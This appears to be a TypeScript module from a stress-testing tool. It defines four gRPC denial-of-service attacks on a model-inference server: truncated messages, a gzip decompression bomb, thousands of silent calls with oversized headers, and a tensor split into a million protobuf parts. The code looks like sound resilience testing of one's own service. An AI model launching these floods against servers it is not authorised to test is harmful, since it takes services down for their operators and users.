import { gzipSync } from 'node:zlib';
import { Tally, closed, count, openSession, untilOver } from './attack.js';
import type { Attack, AttackResult, AttackTarget } from './attack.js';
import { framed, openCall } from './grpc-calls.js';

type CallOptions = Parameters<typeof openCall>[2];

const PER_SESSION = 20;

async function callAll(target: AttackTarget, calls: readonly CallOptions[], signal: AbortSignal): Promise<AttackResult> {
  const tally = new Tally();
  const sessions = Array.from({ length: Math.ceil(calls.length / PER_SESSION) }, () => openSession(target));
  const streams = calls.map((call, i) => {
    const session = sessions[Math.floor(i / PER_SESSION)];
    return session === undefined ? [] : [openCall(session, tally, call)];
  });
  await untilOver(streams.flat().map(closed), signal);
  for (const session of sessions) session.destroy();
  return tally.result();
}

const repeat = (call: CallOptions, full: number, scale: number): readonly CallOptions[] =>
  Array.from({ length: count(full, scale) }, () => call);

/** 300 messages each to an open method and to one with a token that stop one byte before their end. */
export const unfinishedMessages: Attack = (target, scale, signal) => {
  const bytes = framed(Buffer.alloc(target.maxBodyBytes - 1), false, target.maxBodyBytes);
  const calls = ['ServerLive', 'ModelInfer'].flatMap((method) => repeat({ method, bytes, ends: false }, 300, scale));
  return callAll(target, calls, signal);
};

/** 200 messages of 8 kB that unpack to as much as a message may be. */
export const packedMessages: Attack = (target, scale, signal) => {
  const bytes = framed(gzipSync(Buffer.alloc(target.maxBodyBytes, 0x3a)), true);
  return callAll(target, repeat({ method: 'ModelInfer', bytes, ends: true, headers: { 'grpc-encoding': 'gzip' } }, 200, scale), signal);
};

/** 5,000 calls with large headers that never send anything. */
export const silentCalls: Attack = (target, scale, signal) => {
  const headers = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`x-${i}`, String(i).repeat(500)]));
  return callAll(target, repeat({ method: 'ModelInfer', bytes: Buffer.alloc(0), ends: false, headers }, 5_000, scale), signal);
};

/** 20 messages with one tensor whose values come in a million parts. */
export const partedMessages: Attack = (target, scale, signal) => {
  const half = Buffer.alloc(target.maxBodyBytes / 2);
  const length = Buffer.from([...varint(half.length)]);
  const parts = Buffer.concat(Array.from({ length: target.maxBodyBytes / 8 }, () => Buffer.from([0x2a, 0])));
  const tensor = Buffer.concat([Buffer.from([0x2a]), length, half, parts]);
  const message = Buffer.concat([Buffer.from([0x2a, ...varint(tensor.length)]), tensor]);
  return callAll(target, repeat({ method: 'ModelInfer', bytes: framed(message), ends: true }, 20, scale), signal);
};

function varint(value: number): number[] {
  const bytes: number[] = [];
  let rest = value;
  for (; rest >= 0x80; rest >>>= 7) bytes.push((rest & 0x7f) | 0x80);
  return [...bytes, rest];
}
